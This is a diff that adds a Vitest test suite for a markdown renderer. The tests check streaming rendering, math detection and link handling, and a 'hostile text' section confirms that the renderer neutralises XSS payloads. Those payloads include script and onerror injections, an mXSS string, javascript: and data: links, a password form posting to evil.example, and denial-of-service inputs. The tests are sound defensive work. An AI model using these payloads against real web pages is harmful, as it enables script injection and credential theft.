@@ -1,0 +1,158 @@
+// @vitest-environment jsdom
+import { describe, expect, test } from 'vitest';
+import { createMarkdownView } from '../src/markdown/markdown-view';
+
+const corpus: Record<string, string> = {
+  chinese: '因为它把**同样**的子问题算了\n指数次。\n\n- 第一,*测量*\n- 第二\n\n## 标题\n\n好的 `code` 🇫🇷 ok',
+  table: 'Before\n\n| a | b |\n|--:|:-:|\n| 1 | **x** |\n| 2 | `y` |\n\nAfter | not a table\n',
+  lists: '1. one\n   - a\n   - b\n\n     more of b\n2. two\n\n   paragraph\n\n3. three\n\nend\n\n- [x] done\n- [ ] not\n',
+  numbers: '- a\n\n- b\n\n1. c\n\n2. d\n\ntext\n---\n\nsetext\n===\n',
+  fences: 'Look:\n\n```python\ndef f():\n\n    return "```"\n```\n\n~~~\n# no heading\n~~~\n\n    indented\n\n    code\n\ndone',
+  math: 'Let $x^2$ and \\(y\\):\n\n$$\n\\frac{a}{b}\n- c\n$$\n\nand \\[ z \\] but $5 or $10.\n\n`$no$`\n',
+  quotes: '> one\n> two\nlazy\n\n> > nested\n\n***\n\nhttps://example.org/a_b_c and [link](https://example.org "t")\n',
+  html: 'a <b>bold</b> <think>hm</think>\n\n<details>\n<summary>S</summary>\n\nhidden **text**\n\n</details>\n\nend\n',
+  references: 'See [one] and [two][2].\n\nMore text.\n\n[one]: https://example.org/1\n[2]: https://example.org/2\n\nLast [one].\n',
+  returns: 'one\r\ntwo\r\n\r\n- a\r\n- b\r\n',
+};
+
+function render(text: string): string {
+  const container = document.createElement('div');
+  createMarkdownView(container, 'Copy').update(text, true);
+  return container.innerHTML;
+}
+
+function random(seed: number): () => number {
+  let state = seed;
+  return () => (state = (state * 48271) % 2147483647) / 2147483647;
+}
+
+describe('text that streams in looks in the end like text that came at once', () => {
+  test.each(Object.keys(corpus))('%s', (name) => {
+    const text = corpus[name] ?? '';
+    for (let seed = 1; seed <= 5; seed++) {
+      const next = random(seed * 7919);
+      const container = document.createElement('div');
+      const view = createMarkdownView(container, 'Copy');
+      for (let at = 0; at < text.length; at += Math.ceil(next() * (seed === 1 ? 3 : 20))) view.update(text.slice(0, at), false);
+      view.update(text, true);
+
+      expect(container.innerHTML).toBe(render(text));
+    }
+  });
+});
+
+test('a closed block is the same element for ever', () => {
+  const container = document.createElement('div');
+  const view = createMarkdownView(container, 'Copy');
+  view.update('First.\n\nSecond.\n\nThi', false);
+  const [first] = container.children;
+  view.update('First.\n\nSecond.\n\nThird.\n\nFourth', false);
+
+  expect(container.children[0]).toBe(first);
+  expect(container.children).toHaveLength(4);
+});
+
+test('the text node that grows is the same while it grows', () => {
+  const container = document.createElement('div');
+  const view = createMarkdownView(container, 'Copy');
+  view.update('Hel', false);
+  const node = container.firstChild?.firstChild;
+  view.update('Hello wor', false);
+
+  expect(container.firstChild?.firstChild).toBe(node);
+  expect(container.textContent).toBe('Hello wor');
+});
+
+test('replaced text replaces what was frozen', () => {
+  const container = document.createElement('div');
+  const view = createMarkdownView(container, 'Copy');
+  view.update('Old one.\n\nOld two.\n\nOld', false);
+  view.update('New.', false);
+
+  expect(container.textContent).toBe('New.');
+});
+
+test.each([
+  ['some **bold', '<strong>bold</strong>'],
+  ['some `code', '<code>code</code>'],
+  ['a [link](https://exam', 'a link'],
+  ['```js\nlet x', '<code>let x'],
+])('unfinished %j looks finished while it streams', (text, html) => {
+  const container = document.createElement('div');
+  createMarkdownView(container, 'Copy').update(text, false);
+
+  expect(container.innerHTML).toContain(html);
+});
+
+test('a single newline is a line break', () => {
+  expect(render('a\nb')).toContain('<br>');
+});
+
+test.each(['It costs $5 or $10.', 'US$5 and US$6', '从$5涨到$10', '`$x$`', 'echo $HOME and $PATH'])('%j holds no formula', (text) => {
+  expect(render(text)).not.toContain('salon-math');
+});
+
+test.each(['$x^2$', '\\(x\\)', '$$x$$', '\\[x\\]', '设 $n$ 为'])('%j holds a formula', (text) => {
+  expect(render(text)).toContain('salon-math');
+});
+
+test('tags that we do not know are shown as text', () => {
+  const container = document.createElement('div');
+  createMarkdownView(container, 'Copy').update('<think>maybe</think>', true);
+
+  expect(container.textContent).toContain('<think>maybe</think>');
+});
+
+test('an image at another host is a link that names the host', () => {
+  const html = render('![chart](https://elsewhere.example/x.png?data=secret)');
+
+  expect(html).not.toContain('<img');
+  expect(html).toContain('elsewhere.example');
+});
+
+test('links open elsewhere and tell nothing', () => {
+  expect(render('[x](https://example.org)')).toMatch(/target="_blank"[^>]*rel="noopener noreferrer nofollow"/);
+});
+
+describe('hostile text', () => {
+  const forbidden = 'script,style,iframe,object,embed,form,input,base,link,meta,svg,template,[onerror],[onclick],[onload],[ontoggle],[onfocus],[srcset],[style],[id],[name]';
+  test.each([
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg/onload=alert(1)>',
+    '<style>*{display:none}</style>',
+    '<p style="position:fixed;inset:0" id=x class=salon-app>login</p>',
+    '<iframe srcdoc="<script>parent.x=1</script>"></iframe>',
+    '<img srcset="https://evil.example/a 1x">',
+    '<base href=//evil.example/>',
+    '<form action=//evil.example><input name=password></form>',
+    '<details open ontoggle=alert(1)>x</details>',
+    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
+    '<x-foo onclick=alert(1)>x</x-foo>',
+    '<template><img src=x onerror=alert(1)></template>',
+    '![x](x" onerror="alert(1))',
+    '$$<img src=x onerror=alert(1)>$$',
+    '```html\n<script>alert(1)</script>\n```',
+    '```"onclick=alert(1)\nx\n```',
+  ])('%j brings in no forbidden element or attribute', (text) => {
+    const container = document.createElement('div');
+    createMarkdownView(container, 'Copy').update(text, true);
+
+    expect([...container.querySelectorAll(forbidden)]).toEqual([]);
+    expect(container.querySelector('.salon-app')).toBeNull();
+  });
+
+  test.each(['[x](javascript:alert(1))', '[x](JaVa\tScRiPt:alert(1))', '[x](data:text/html;base64,PHM+)', '<a href="vbscript:x">x</a>', '<a href=" &#1;javascript:alert(1)">x</a>'])(
+    '%j is no link',
+    (text) => {
+      expect(render(text)).not.toMatch(/href="(?!https?:)/);
+    },
+  );
+
+  test.each([`${'*'.repeat(50_000)}a${'*'.repeat(50_000)}`, `${'> '.repeat(5000)}x`, '['.repeat(20_000), '<'.repeat(20_000)])('number %# is shown in time', (text) => {
+    const start = performance.now();
+    render(text);
+
+    expect(performance.now() - start).toBeLessThan(3000);
+  });
+});
